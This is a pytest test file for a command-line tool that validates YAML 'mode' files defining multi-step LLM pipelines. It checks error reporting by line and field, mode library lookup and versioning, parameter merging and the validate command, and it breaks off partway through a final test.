"""Mode files: every problem is reported with its file, line and field; the library finds modes."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest
from typer.testing import CliRunner

from composite_cli.cli.main import app
from composite_cli.engine.library import ModeLibrary, builtin_modes_dir
from composite_cli.engine.spec import ModeSpec, ParamRef, parse_mode
from composite_cli.errors import BadRequest, ModeError, ModeValidationError, UnknownModeError

REPO = Path(__file__).resolve().parent.parent
SHIPPED = {"direct", "moa-v1", "reflect-v1", "moa-reflect-v1"}


def mode(text: str) -> str:
    """Dedent a mode written inline; line 1 is the first line after the opening quotes."""
    return textwrap.dedent(text)


def errors_of(text: str, path: str = "<string>") -> list[ModeError]:
    with pytest.raises(ModeValidationError) as info:
        parse_mode(text, path)
    errors = info.value.errors
    assert errors, "ModeValidationError without errors"
    assert all(isinstance(e, ModeError) for e in errors)
    return errors


# Each case: a broken mode, then the line and field of the problem and a piece of its message.
BROKEN: list[tuple[str, str, int, str, str]] = [
    (
        "bad_yaml_indent",
        """\
        name: x
        steps:
          - id: a
            kind: call
           model: m
        """,
        5,
        "",
        "invalid YAML",
    ),
    (
        "bad_yaml_tab",
        "name: x\nsteps:\n  - id: a\n\tkind: call\n",
        4,
        "",
        "invalid YAML",
    ),
    (
        "bad_yaml_duplicate_key",
        """\
        name: x
        steps:
          - id: a
            kind: call
            model: m
            model: n
        """,
        6,
        "",
        "duplicate key 'model'",
    ),
    (
        "not_a_mapping",
        "- id: a\n- id: b\n",
        1,
        "",
        "must be a mapping",
    ),
    (
        "unknown_kind",
        """\
        name: x
        steps:
          - id: a
            kind: magic
            model: m
        """,
        4,
        "steps[0].kind",
        "unknown step kind 'magic'",
    ),
    (
        "missing_kind",
        """\
        name: x
        steps:
          - id: a
            model: m
        """,
        3,
        "steps[0].kind",
        "is required",
    ),
    (
        "step_not_a_mapping",
        """\
        name: x
        steps:
          - {id: a, kind: call, model: m}
          - just a string
        """,
        4,
        "steps[1]",
        "must be a mapping",
    ),
    (
        "synthesize_from_unknown",
        """\
        name: x
        steps:
          - id: proposals
            kind: fanout
            model: fast
            n: 3
          - id: answer
            kind: synthesize
            model: strong
            from: proposal
        """,
        10,
        "steps[1].from",
        "unknown step 'proposal'",
    ),
    (
        "synthesize_from_list_with_unknown",
        """\
        name: x
        steps:
          - {id: a, kind: call, model: m}
          - id: answer
            kind: synthesize
            model: strong
            from: [a, ghost]
        """,
        7,
        "steps[1].from",
        "unknown step 'ghost'",
    ),
    (
        "synthesize_from_later_step",
        """\
        name: x
        steps:
          - id: answer
            kind: synthesize
            model: strong
            from: later
          - {id: later, kind: call, model: m}
        """,
        6,
        "steps[0].from",
        "unknown step 'later'",
    ),
    (
        "synthesize_without_from",
        """\
        name: x
        steps:
          - {id: a, kind: call, model: m}
          - id: answer
            kind: synthesize
            model: strong
        """,
        4,
        "steps[1].from",
        "is required",
    ),
    (
        "updates_unknown",
        """\
        name: x
        steps:
          - {id: draft, kind: call, model: m}
          - id: rewrite
            kind: call
            model: m
            updates: drafts
        """,
        7,
        "steps[1].updates",
        "unknown step 'drafts'",
    ),
    (
        "reflect_draft_unknown",
        """\
        name: x
        steps:
          - {id: answer, kind: call, model: m}
          - id: critique
            kind: reflect
            model: judge
            draft: ansewr
        """,
        7,
        "steps[1].draft",
        "unknown step 'ansewr'",
    ),
    (
        "reflect_without_draft",
        """\
        name: x
        steps:
          - {id: answer, kind: call, model: m}
          - id: critique
            kind: reflect
            model: judge
        """,
        4,
        "steps[1].draft",
        "is required",
    ),
    (
        "fanout_references_unknown",
        """\
        name: x
        steps:
          - {id: a, kind: call, model: m}
          - id: b
            kind: fanout
            model: m
            n: 2
            references: zzz
        """,
        8,
        "steps[1].references",
        "unknown step 'zzz'",
    ),
    (
        "loop_output_unknown",
        """\
        name: x
        steps:
          - id: refine
            kind: loop
            max_rounds: 2
            output: nothing
            steps:
              - {id: c, kind: call, model: m}
        """,
        6,
        "steps[0].output",
        "unknown step 'nothing'",
    ),
    (
        "vote_from_unknown",
        """\
        name: x
        steps:
          - {id: a, kind: fanout, model: m, n: 3}
          - id: pick
            kind: vote
            from: b
        """,
        6,
        "steps[1].from",
        "unknown step 'b'",
    ),
    (
        "template_unknown_variable_in_system",
        """\
        name: x
        steps:
          - id: a
            kind: call
            model: m
            system: You answer {{ question }} carefully.
        """,
        6,
        "steps[0].system",
        "unknown template variable 'question'",
    ),
    (
        "template_unknown_variable_in_prompt",
        """\
        name: x
        steps:
          - id: a
            kind: call
            model: m
            conversation: false
            prompt: |
              Question: {{ input }}
              Notes: {{ notes }}
        """,
        7,
        "steps[0].prompt",
        "unknown template variable 'notes'",
    ),
    (
        "template_refers_to_a_later_step",
        """\
        name: x
        steps:
          - id: a
            kind: call
            model: m
            prompt: "{{ b }}"
          - {id: b, kind: call, model: m}
        """,
        6,
        "steps[0].prompt",
        "unknown template variable 'b'",
    ),
    (
        "template_round_outside_a_loop",
        """\
        name: x
        steps:
          - id: a
            kind: call
            model: m
            prompt: "Round {{ round }}"
        """,
        6,
        "steps[0].prompt",
        "unknown template variable 'round'",
    ),
    (
        "template_unknown_variable_in_expert",
        """\
        name: x
        steps:
          - id: p
            kind: fanout
            experts:
              - name: one
                model: fast
              - name: two
                model: fast
                system: Think about {{ topic }}.
        """,
        10,
        "steps[0].experts[1].system",
        "unknown template variable 'topic'",
    ),
    (
        "template_unknown_variable_in_loop_body",
        """\
        name: x
        steps:
          - id: l
            kind: loop
            max_rounds: 2
            steps:
              - id: c
                kind: call
                model: m
                prompt: "round {{ round }} of {{ ghost }}"
        """,
        10,
        "steps[0].steps[0].prompt",
        "unknown template variable 'ghost'",
    ),
    (
        "template_syntax_error",
        """\
        name: x
        steps:
          - id: a
            kind: call
            model: m
            prompt: "{{ input "
        """,
        6,
        "steps[0].prompt",
        "template syntax error",
    ),
    (
        "call_without_model",
        """\
        name: x
        steps:
          - id: a
            kind: call
            system: Be brief.
        """,
        3,
        "steps[0].model",
        "is required",
    ),
    (
        "expert_without_model",
        """\
        name: x
        steps:
          - id: p
            kind: fanout
            experts:
              - name: one
                model: fast
              - name: two
                system: Be brief.
        """,
        8,
        "steps[0].experts[1].model",
        "is required",
    ),
    (
        "synthesize_without_model",
        """\
        name: x
        steps:
          - {id: p, kind: fanout, model: fast, n: 2}
          - id: answer
            kind: synthesize
            from: p
        """,
        4,
        "steps[1].model",
        "is required",
    ),
    (
        "model_not_a_string",
        """\
        name: x
        steps:
          - id: a
            kind: call
            model: [fast, strong]
        """,
        5,
        "steps[0].model",
        "must be a string",
    ),
    (
        "duplicate_id",
        """\
        name: x
        steps:
          - id: answer
            kind: call
            model: m
          - id: answer
            kind: call
            model: m
        """,
        6,
        "steps[1].id",
        "duplicate step id 'answer'",
    ),
    (
        "duplicate_id_inside_a_loop",
        """\
        name: x
        steps:
          - {id: draft, kind: call, model: m}
          - id: refine
            kind: loop
            steps:
              - id: draft
                kind: call
                model: m
        """,
        7,
        "steps[1].steps[0].id",
        "duplicate step id 'draft'",
    ),
    (
        "duplicate_expert_name",
        """\
        name: x
        steps:
          - id: p
            kind: fanout
            model: fast
            experts:
              - name: one
              - name: one
        """,
        8,
        "steps[0].experts[1].name",
        "duplicate expert name 'one'",
    ),
    (
        "n_not_a_number",
        """\
        name: x
        steps:
          - id: p
            kind: fanout
            model: fast
            n: three
        """,
        6,
        "steps[0].n",
        "must be an integer",
    ),
    (
        "experts_not_a_list",
        """\
        name: x
        steps:
          - id: p
            kind: fanout
            model: fast
            experts: 5
        """,
        6,
        "steps[0].experts",
        "non-empty list",
    ),
    (
        "experts_empty",
        """\
        name: x
        steps:
          - id: p
            kind: fanout
            model: fast
            experts: []
        """,
        6,
        "steps[0].experts",
        "non-empty list",
    ),
    (
        "fanout_without_experts_or_n",
        """\
        name: x
        steps:
          - id: p
            kind: fanout
            model: fast
        """,
        3,
        "steps[0].experts",
        "needs experts",
    ),
    (
        "fanout_with_experts_and_n",
        """\
        name: x
        steps:
          - id: p
            kind: fanout
            model: fast
            n: 2
            experts:
              - name: one
        """,
        6,
        "steps[0].n",
        "not both",
    ),
    (
        "min_success_above_experts",
        """\
        name: x
        steps:
          - id: p
            kind: fanout
            model: fast
            min_success: 3
            experts:
              - name: one
              - name: two
        """,
        6,
        "steps[0].min_success",
        "only 2 experts",
    ),
    (
        "max_tokens_a_string",
        """\
        name: x
        steps:
          - id: a
            kind: call
            model: m
            max_tokens: "lots"
        """,
        6,
        "steps[0].max_tokens",
        "must be an integer",
    ),
    (
        "max_tokens_a_float",
        """\
        name: x
        steps:
          - id: a
            kind: call
            model: m
            max_tokens: 1.5
        """,
        6,
        "steps[0].max_tokens",
        "must be an integer",
    ),
    (
        "max_tokens_zero",
        """\
        name: x
        steps:
          - id: a
            kind: call
            model: m
            max_tokens: 0
        """,
        6,
        "steps[0].max_tokens",
        "at least 1",
    ),
    (
        "temperature_a_word",
        """\
        name: x
        steps:
          - id: a
            kind: call
            model: m
            temperature: hot
        """,
        6,
        "steps[0].temperature",
        "must be a number",
    ),
    (
        "temperature_a_bool",
        """\
        name: x
        steps:
          - id: a
            kind: call
            model: m
            temperature: true
        """,
        6,
        "steps[0].temperature",
        "must be a number",
    ),
    (
        "conversation_not_a_bool",
        """\
        name: x
        steps:
          - id: a
            kind: call
            model: m
            conversation: maybe
        """,
        6,
        "steps[0].conversation",
        "true or false",
    ),
    (
        "no_conversation_and_no_prompt",
        """\
        name: x
        steps:
          - id: a
            kind: call
            model: m
            conversation: false
        """,
        6,
        "steps[0].conversation",
        "needs a prompt",
    ),
    (
        "stop_not_strings",
        """\
        name: x
        steps:
          - id: a
            kind: call
            model: m
            stop: 5
        """,
        6,
        "steps[0].stop",
        "string or a list of strings",
    ),
    (
        "loop_max_rounds_negative",
        """\
        name: x
        steps:
          - id: l
            kind: loop
            max_rounds: -1
            steps:
              - {id: c, kind: call, model: m}
        """,
        5,
        "steps[0].max_rounds",
        "at least 0",
    ),
    (
        "timeout_a_word",
        """\
        name: x
        steps:
          - id: a
            kind: call
            model: m
            timeout: forever
        """,
        6,
        "steps[0].timeout",
        "must be a number",
    ),
    (
        "empty_steps",
        """\
        name: x
        description: nothing to do
        steps: []
        """,
        3,
        "steps",
        "at least one step",
    ),
    (
        "steps_missing",
        """\
        name: x
        description: nothing to do
        """,
        1,
        "steps",
        "is required",
    ),
    (
        "steps_not_a_list",
        """\
        name: x
        steps:
          id: a
          kind: call
        """,
        3,
        "steps",
        "must be a list of steps",
    ),
    (
        "empty_loop_body",
        """\
        name: x
        steps:
          - id: l
            kind: loop
            max_rounds: 2
            steps: []
        """,
        6,
        "steps[0].steps",
        "at least one step",
    ),
    (
        "if_without_then",
        """\
        name: x
        steps:
          - {id: a, kind: call, model: m}
          - id: f
            kind: if
            when: "a"
        """,
        4,
        "steps[1].then",
        "is required",
    ),
    (
        "unknown_field_in_step",
        """\
        name: x
        steps:
          - id: a
            kind: call
            model: m
            temprature: 0.2
        """,
        6,
        "steps[0].temprature",
        "unknown field",
    ),
    (
        "unknown_field_in_expert",
        """\
        name: x
        steps:
          - id: p
            kind: fanout
            experts:
              - name: one
                model: fast
                colour: blue
        """,
        8,
        "steps[0].experts[0].colour",
        "unknown field",
    ),
    (
        "call_field_on_a_loop",
        """\
        name: x
        steps:
          - id: l
            kind: loop
            model: m
            steps:
              - {id: c, kind: call, model: m}
        """,
        5,
        "steps[0].model",
        "unknown field",
    ),
    (
        "unknown_field_in_limits",
        """\
        name: x
        limits:
          max_calls: 5
          max_cost: 1
        steps:
          - {id: a, kind: call, model: m}
        """,
        4,
        "limits.max_cost",
        "unknown field",
    ),
    (
        "undeclared_param",
        """\
        name: x
        params:
          rounds: 2
        steps:
          - id: a
            kind: call
            model: m
            max_tokens: $tokens
        """,
        8,
        "steps[0].max_tokens",
        "unknown parameter '$tokens'",
    ),
    (
        "undeclared_param_without_params",
        """\
        name: x
        steps:
          - id: l
            kind: loop
            max_rounds: $max_rounds
            steps:
              - {id: c, kind: call, model: m}
        """,
        5,
        "steps[0].max_rounds",
        "unknown parameter '$max_rounds'",
    ),
    (
        "param_not_a_number",
        """\
        name: x
        params:
          style: terse
        steps:
          - id: a
            kind: call
            model: m
            max_tokens: $style
        """,
        8,
        "steps[0].max_tokens",
        "not a number",
    ),
    (
        "param_default_a_list",
        """\
        name: x
        params:
          ok: 1
          experts: [a, b]
        steps:
          - {id: a, kind: call, model: m}
        """,
        4,
        "params.experts",
        "must be a number, string or boolean",
    ),
    (
        "limits_max_calls_zero",
        """\
        name: x
        limits:
          max_calls: 0
        steps:
          - {id: a, kind: call, model: m}
        """,
        3,
        "limits.max_calls",
        "at least 1",
    ),
    (
        "condition_unknown_name",
        """\
        name: x
        steps:
          - {id: draft, kind: call, model: m}
          - id: fix
            kind: if
            when: not critique.ok
            then:
              - {id: b, kind: call, model: m}
        """,
        6,
        "steps[1].when",
        "unknown template variable 'critique'",
    ),
    (
        "until_unknown_name",
        """\
        name: x
        steps:
          - id: refine
            kind: loop
            max_rounds: 2
            until: critque.ok
            steps:
              - {id: critique, kind: call, model: m}
        """,
        6,
        "steps[0].until",
        "unknown template variable 'critque'",
    ),
    (
        "condition_syntax_error",
        """\
        name: x
        steps:
          - {id: a, kind: call, model: m}
          - id: f
            kind: if
            when: "a.ok and"
            then:
              - {id: b, kind: call, model: m}
        """,
        6,
        "steps[1].when",
        "condition syntax error",
    ),
    (
        "reserved_id_input",
        """\
        name: x
        steps:
          - id: input
            kind: call
            model: m
        """,
        3,
        "steps[0].id",
        "'input' is a reserved name",
    ),
    (
        "reserved_id_candidates",
        """\
        name: x
        steps:
          - {id: a, kind: call, model: m}
          - id: candidates
            kind: call
            model: m
        """,
        4,
        "steps[1].id",
        "'candidates' is a reserved name",
    ),
    (
        "invalid_id",
        """\
        name: x
        steps:
          - id: 2nd-answer
            kind: call
            model: m
        """,
        3,
        "steps[0].id",
        "not a valid id",
    ),
    (
        "keyword_id",
        """\
        name: x
        steps:
          - kind: call
            id: class
            model: m
        """,
        4,
        "steps[0].id",
        "not a valid id",
    ),
    (
        "synthesize_never_shows_candidates",
        """\
        name: x
        steps:
          - {id: p, kind: fanout, model: fast, n: 3}
          - id: answer
            kind: synthesize
            from: p
            model: strong
            system: Summarize the answers above.
            prompt: "{{ input }}"
        """,
        8,
        "steps[1].system",
        "{{ candidates }}",
    ),
    (
        "vote_unknown_method",
        """\
        name: x
        steps:
          - {id: p, kind: fanout, model: fast, n: 3}
          - id: pick
            kind: vote
            from: p
            method: best
        """,
        7,
        "steps[1].method",
        "majority or judge",
    ),
    (
        "majority_vote_with_model",
        """\
        name: x
        steps:
          - {id: p, kind: fanout, model: fast, n: 3}
          - id: pick
            kind: vote
            from: p
            model: judge
        """,
        7,
        "steps[1].model",
        "calls no model",
    ),
    (
        "bad_ok_when_regex",
        """\
        name: x
        steps:
          - {id: a, kind: call, model: m}
          - id: c
            kind: reflect
            draft: a
            model: judge
            ok_when: "(["
        """,
        8,
        "steps[1].ok_when",
        "invalid regular expression",
    ),
    (
        "bad_name",
        """\
        name: Fancy Mode
        steps:
          - {id: a, kind: call, model: m}
        """,
        1,
        "name",
        "lower-case",
    ),
]


@pytest.mark.parametrize(
    ("text", "line", "field", "message"),
    [pytest.param(text, line, field, message, id=case) for case, text, line, field, message in BROKEN],
)
def test_broken_mode_reports_line_and_field(text: str, line: int, field: str, message: str) -> None:
    errors = errors_of(mode(text), "broken.yaml")
    found = [(e.line, e.field) for e in errors]
    assert (line, field) in found, f"expected {line}:{field}, got {[e.one_line() for e in errors]}"
    err = next(e for e in errors if (e.line, e.field) == (line, field))
    assert err.path == "broken.yaml"
    assert message in err.message
    expected = f"broken.yaml:{line}: {field}: " if field else f"broken.yaml:{line}: "
    assert err.one_line().startswith(expected)
    assert err.one_line() == expected + err.message


def test_the_broken_cases_cover_every_kind_of_problem() -> None:
    names = {case for case, *_ in BROKEN}
    for required in (
        "bad_yaml_indent",
        "unknown_kind",
        "synthesize_from_unknown",
        "updates_unknown",
        "reflect_draft_unknown",
        "template_unknown_variable_in_system",
        "template_unknown_variable_in_prompt",
        "call_without_model",
        "duplicate_id",
        "n_not_a_number",
        "experts_not_a_list",
        "max_tokens_a_string",
        "empty_steps",
        "unknown_field_in_step",
        "undeclared_param",
        "condition_unknown_name",
        "reserved_id_input",
        "synthesize_never_shows_candidates",
    ):
        assert required in names
    assert len(names) == len(BROKEN)


def test_name_must_match_the_file_name() -> None:
    text = mode(
        """\
        description: x
        name: bar
        steps:
          - {id: a, kind: call, model: m}
        """
    )
    errors = errors_of(text, "modes/foo.yaml")
    assert [(e.line, e.field) for e in errors] == [(2, "name")]
    assert "'foo.yaml'" in errors[0].message
    assert errors[0].one_line().startswith("modes/foo.yaml:2: name: 'bar' must match the file name")
    # The same text is fine in a file of that name, and as a string.
    assert parse_mode(text, "modes/bar.yaml").name == "bar"
    assert parse_mode(text).name == "bar"


def test_missing_name_is_reported() -> None:
    errors = errors_of("steps:\n  - {id: a, kind: call, model: m}\n", "modes/foo.yaml")
    assert [e.line for e in errors] == [1]
    assert errors[0].field.endswith("name")
    assert "is required" in errors[0].message


def test_unknown_top_level_field() -> None:
    text = "name: x\ncolour: red\nsteps:\n  - {id: a, kind: call, model: m}\n"
    errors = errors_of(text)
    assert [e.line for e in errors] == [2]
    assert "colour" in errors[0].field
    assert "unknown field" in errors[0].message


def test_fanout_step_level_field_error_names_the_step_field_once() -> None:
    """A bad template given once at the step level is one problem at `steps[0].system`, not one
    per expert at fields (`steps[0].experts[i].system`) that do not exist in the file."""
    text = mode(
        """\
        name: x
        steps:
          - id: p
            kind: fanout
            system: "{{ nope }}"
            experts:
              - {name: a, model: fast}
              - {name: b, model: fast}
        """
    )
    errors = errors_of(text)
    assert [(e.line, e.field) for e in errors] == [(5, "steps[0].system")]


def test_wrong_n_is_one_problem_not_also_a_missing_n() -> None:
    """`n: three` is given but wrong: saying the fanout 'needs experts or n' as well misleads."""
    text = mode(
        """\
        name: x
        steps:
          - id: p
            kind: fanout
            model: fast
            n: three
        """
    )
    errors = errors_of(text)
    assert [(e.line, e.field) for e in errors] == [(6, "steps[0].n")]


def test_every_problem_in_a_file_is_reported_in_line_order() -> None:
    text = mode(
        """\
        name: multi
        steps:
          - id: a
            kind: call
            model: m
            max_tokens: lots
          - id: a
            kind: call
            model: m
          - id: c
            kind: magic
          - id: s
            kind: synthesize
            model: m
            from: nowhere
        """
    )
    errors = errors_of(text, "multi.yaml")
    assert [(e.line, e.field) for e in errors] == [
        (6, "steps[0].max_tokens"),
        (7, "steps[1].id"),
        (11, "steps[2].kind"),
        (15, "steps[3].from"),
    ]
    lines = str(ModeValidationError(errors)).splitlines()
    assert lines == [e.one_line() for e in errors]
    assert all(line.startswith("multi.yaml:") for line in lines)


def test_one_line_format() -> None:
    assert ModeError("m.yaml", 7, "steps[0].n", "must be an integer").one_line() == (
        "m.yaml:7: steps[0].n: must be an integer"
    )
    assert ModeError("m.yaml", 3, "", "invalid YAML: oops").one_line() == "m.yaml:3: invalid YAML: oops"
    assert ModeError("m.yaml", None, "", "cannot read").one_line() == "m.yaml: cannot read"


# -- valid modes ---------------------------------------------------------------------------------

GOOD = """\
name: good
description: >
  Two drafts, a vote, a critique loop.
params:
  rounds: 2
  tokens: 100
  temp: 0.5
  strict: true
limits:
  max_calls: $rounds
  deadline: 30
steps:
  - id: drafts
    kind: fanout
    model: fast
    n: 2
    max_tokens: $tokens
    temperature: $temp
    system: "Sample {{ sample }} of {{ params.rounds }}: {{ input }}"
  - id: best
    kind: vote
    from: drafts
  - id: merged
    kind: synthesize
    from: [drafts, best]
    model: strong
    prompt: "Pick from {{ candidates }}"
  - id: refine
    kind: loop
    max_rounds: $rounds
    until: critique.ok or round >= 2
    output: merged
    steps:
      - id: critique
        kind: reflect
        draft: merged
        model: judge
      - id: fix
        kind: if
        when: not critique.ok
        then:
          - id: rewrite
            kind: call
            model: strong
            updates: merged
            prompt: "Round {{ round }}: fix {{ merged }} using {{ critique }}"
"""


def test_a_valid_mode_parses() -> None:
    spec = parse_mode(GOOD, "modes/good.yaml")
    assert spec.name == "good"
    assert spec.description == "Two drafts, a vote, a critique loop."
    assert spec.params == {"rounds": 2, "tokens": 100, "temp": 0.5, "strict": True}
    assert spec.limits.max_calls == ParamRef("rounds")
    assert spec.limits.deadline == 30
    assert [s.id for s in spec.walk()] == ["drafts", "best", "merged", "refine", "critique", "fix", "rewrite"]
    assert [s.kind for s in spec.steps] == ["fanout", "vote", "synthesize", "loop"]
    assert spec.aliases() == ["fast", "strong", "judge"]
    assert spec.source == GOOD
    assert spec.path == Path("modes/good.yaml")


# -- the shipped modes and the library -----------------------------------------------------------


def test_every_shipped_mode_parses() -> None:
    library = ModeLibrary()
    names = library.names()
    assert SHIPPED <= set(names)
    for name in names:
        spec = library.load(name)
        assert isinstance(spec, ModeSpec)
        assert spec.name == name
        assert spec.description
        assert spec.steps
        assert spec.aliases()


@pytest.mark.parametrize("path", sorted((REPO / "modes").glob("*.yaml")), ids=lambda p: p.name)
def test_every_file_in_modes_dir_parses(path: Path) -> None:
    spec = parse_mode(path.read_text(encoding="utf-8"), path)
    assert spec.name == path.stem


def test_builtin_modes_dir_holds_the_shipped_modes() -> None:
    names = {p.stem for p in builtin_modes_dir().glob("*.yaml")}
    assert SHIPPED <= names


def test_short_names_of_shipped_modes() -> None:
    library = ModeLibrary()
    assert library.resolve("moa") == "moa-v1"
    assert library.resolve("reflect") == "reflect-v1"
    assert library.resolve("moa-reflect") == "moa-reflect-v1"
    assert library.resolve("direct") == "direct"
    assert library.load("moa").name == "moa-v1"


def write_mode(directory: Path, name: str, description: str = "test mode", model: str = "m") -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / f"{name}.yaml"
    path.write_text(
        f"name: {name}\ndescription: {description}\nsteps:\n  - {{id: a, kind: call, model: {model}}}\n",
        encoding="utf-8",
    )
    return path


def test_short_name_resolves_to_the_newest_version(tmp_path: Path) -> None:
    extra = tmp_path / "mine"
    write_mode(extra, "foo-v1", "first")
    write_mode(extra, "foo-v2", "second")
    library = ModeLibrary([extra])
    assert library.resolve("foo") == "foo-v2"
    assert library.load("foo").description == "second"
    assert library.resolve("foo-v1") == "foo-v1"
    assert library.load("foo-v1").description == "first"
    assert library.path("foo") == extra / "foo-v2.yaml"
    # The shipped modes are still there.
    assert library.resolve("moa") == "moa-v1"


def test_versions_compare_as_numbers(tmp_path: Path) -> None:
    extra = tmp_path / "mine"
    for version in (1, 2, 10, 9):
        write_mode(extra, f"bar-v{version}")
    assert ModeLibrary([extra]).resolve("bar") == "bar-v10"


def test_user_dir_overrides_a_shipped_mode(tmp_path: Path) -> None:
    extra = tmp_path / "mine"
    write_mode(extra, "moa-v1", "my own moa", model="custom")
    library = ModeLibrary([extra])
    assert library.path("moa-v1") == extra / "moa-v1.yaml"
    assert library.load("moa").description == "my own moa"
    assert library.load("moa").aliases() == ["custom"]
    assert ModeLibrary().load("moa").description != "my own moa"


def test_first_user_dir_wins(tmp_path: Path) -> None:
    write_mode(tmp_path / "a", "same", "from a")
    write_mode(tmp_path / "b", "same", "from b")
    assert ModeLibrary([tmp_path / "a", tmp_path / "b"]).load("same").description == "from a"
    assert ModeLibrary([tmp_path / "b", tmp_path / "a"]).load("same").description == "from b"


def test_missing_user_dir_is_ignored(tmp_path: Path) -> None:
    assert SHIPPED <= set(ModeLibrary([tmp_path / "does-not-exist"]).names())


def test_unknown_mode_lists_known_modes() -> None:
    with pytest.raises(UnknownModeError) as info:
        ModeLibrary().load("nope")
    assert info.value.name == "nope"
    assert SHIPPED <= set(info.value.known)
    assert str(info.value).startswith("unknown mode 'nope'; known modes: ")
    assert "moa-v1" in str(info.value)


def test_library_without_builtin_modes(tmp_path: Path) -> None:
    write_mode(tmp_path / "only", "solo")
    library = ModeLibrary([tmp_path / "only"], include_builtin=False)
    assert library.names() == ["solo"]
    with pytest.raises(UnknownModeError):
        library.load("moa")


def test_library_reloads_a_changed_file(tmp_path: Path) -> None:
    import os

    path = write_mode(tmp_path / "m", "live", "before")
    library = ModeLibrary([tmp_path / "m"], include_builtin=False)
    assert library.load("live").description == "before"
    write_mode(tmp_path / "m", "live", "after")
    stat = path.stat()
    os.utime(path, ns=(stat.st_atime_ns, stat.st_mtime_ns + 2_000_000_000))
    assert library.load("live").description == "after"


def test_library_load_reports_a_broken_file(tmp_path: Path) -> None:
    directory = tmp_path / "m"
    directory.mkdir()
    (directory / "broken.yaml").write_text("name: broken\nsteps: []\n", encoding="utf-8")
    with pytest.raises(ModeValidationError) as info:
        ModeLibrary([directory]).load("broken")
    assert info.value.errors[0].one_line() == (
        f"{directory / 'broken.yaml'}:2: steps: must contain at least one step"
    )


# -- merged_params -------------------------------------------------------------------------------

PARAMS_MODE = """\
name: p
params:
  rounds: 2
  temp: 0.5
  style: terse
  strict: false
steps:
  - {id: a, kind: call, model: m}
"""


@pytest.fixture
def params_spec() -> ModeSpec:
    return parse_mode(PARAMS_MODE)


def test_merged_params_defaults(params_spec: ModeSpec) -> None:
    assert params_spec.merged_params(None) == {"rounds": 2, "temp": 0.5, "style": "terse", "strict": False}
    assert params_spec.merged_params({}) == params_spec.params


def test_merged_params_overrides_without_changing_the_spec(params_spec: ModeSpec) -> None:
    merged = params_spec.merged_params({"rounds": 5, "style": "chatty", "strict": True, "temp": 0.9})
    assert merged == {"rounds": 5, "temp": 0.9, "style": "chatty", "strict": True}
    assert params_spec.params["rounds"] == 2


def test_merged_params_unknown_name(params_spec: ModeSpec) -> None:
    with pytest.raises(BadRequest) as info:
        params_spec.merged_params({"roundz": 1})
    message = str(info.value)
    assert "'roundz'" in message
    assert "rounds" in message and "temp" in message


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("rounds", "three"),
        ("rounds", 2.5),
        ("rounds", True),
        ("temp", "hot"),
        ("temp", False),
        ("style", 3),
        ("strict", 1),
        ("strict", "yes"),
    ],
)
def test_merged_params_wrong_type(params_spec: ModeSpec, key: str, value: object) -> None:
    with pytest.raises(BadRequest, match=f"'{key}' must be"):
        params_spec.merged_params({key: value})


def test_merged_params_int_accepted_for_float(params_spec: ModeSpec) -> None:
    assert params_spec.merged_params({"temp": 1})["temp"] == 1


# -- `composite modes validate` ------------------------------------------------------------------


def test_validate_valid_files(tmp_path: Path) -> None:
    first = write_mode(tmp_path / "ok", "one")
    second = write_mode(tmp_path / "ok", "two-v1")
    result = CliRunner().invoke(app, ["modes", "validate", str(first), str(second)])
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == [f"ok  {first}", f"ok  {second}"]
    assert result.stderr == ""


def test_validate_shipped_modes_by_default() -> None:
    result = CliRunner().invoke(app, ["modes", "validate"])
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert len(lines) >= len(SHIPPED)
    for name in SHIPPED:
        assert any(line.startswith("ok  ") and line.endswith(f"{name}.yaml") for line in lines)


def test_validate_a_directory_of_broken_files(tmp_path: Path) -> None:
    broken = tmp_path / "broken"
    broken.mkdir()
    cases = {case: (text, line) for case, text, line, _, _ in BROKEN}
    chosen = [
        "bad_yaml_indent",
        "unknown_kind",
        "synthesize_from_unknown",
        "template_unknown_variable_in_system",
        "call_without_model",
        "duplicate_id",
        "n_not_a_number",
        "experts_not_a_list",
        "max_tokens_a_string",
        "empty_steps",
        "undeclared_param",
        "reserved_id_input",
    ]
    expected: dict[Path, int] = {}
    for case in chosen:
        text, line = cases[case]
        path = broken / f"{case}.yaml"
        path.write_text(mode(text).replace("name: x", f"name: {case}", 1), encoding="utf-8")
        expected[path] = line
    good = write_mode(broken, "fine")
    files = sorted(broken.glob("*.yaml"))

    result = CliRunner().invoke(app, ["modes", "validate", *map(str, files)])
    assert result.exit_code == 2
    assert result.stdout.splitlines() == [f"ok  {good}"]
    problems = result.stderr.splitlines()
    assert len(problems) >= len(chosen)
    for path, line in expected.items():
        assert any(p.startswith(f"{path}:{line}: ") for p in problems), (path, line, problems)
    # Every line names a file and a line; none is a traceback.
    assert all(any(p.startswith(f"{path}:") for path in expected) for p in problems)
    assert "Traceback" not in result.output


def test_validate_reports_aliases_the_profile_lacks(tmp_path: Path) -> None:
    Path("composite.yaml").write_text(
        "profile: narrow\nprofiles:\n  narrow:\n    strong: {model: openai/x}\n", encoding="utf-8"
    )
    path = tmp_path / "needs-fast.yaml"
    path.write_text(
        "name: needs-fast\nsteps:\n  - {id: a, kind: call, model: strong}\n"
        "  - id: b\n    kind: call\n    model: fast\n",
        encoding="utf-8",
    )
    result = CliRunner().invoke(app, ["modes", "validate", str(path)])
    assert result.exit_code == 2
    assert result.stderr.splitlines() == [
        f"{path}:4: steps[1].model: alias 'fast' is not in profile 'narrow'"
    ]


def test_validate_missing_file(tmp_path: Path) -> None:
    missing = tmp_path / "nope.yaml"
    result = CliRunner().invoke(app, ["modes", "validate", str(missing)])
    assert result.exit_code == 2
    assert str(missing) in result.stderr


def test_validate_every_mode_on_the_modes_path(tmp_path: Path) -> None:
    mine = tmp_path / "cfg" / "mine"
    mine.mkdir(parents=True)
    (mine / "oops.yaml").write_text("name: oops\nsteps:\n  - {id: a, kind: cal, model: m}\n")
    cfg = tmp_path / "cfg" / "composite.yaml"
    cfg.write_text("modes_path: [mine]\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["modes", "validate", "--config", str(cfg)])
    assert result.exit_code == 2
    assert len(result.stderr.splitlines()) == 1
    assert result.stderr.startswith(f"{mine / 'oops.yaml'}:3: steps[0].kind: unknown step kind 'cal'")
    assert any(line.startswith("ok  ") and "moa-v1.yaml" in line for line in result.stdout.splitlines())


# -- `modes list`: the first sentence of each description -----------------------------------------


@pytest.mark.parametrize(
    ("text", "first"),
    [
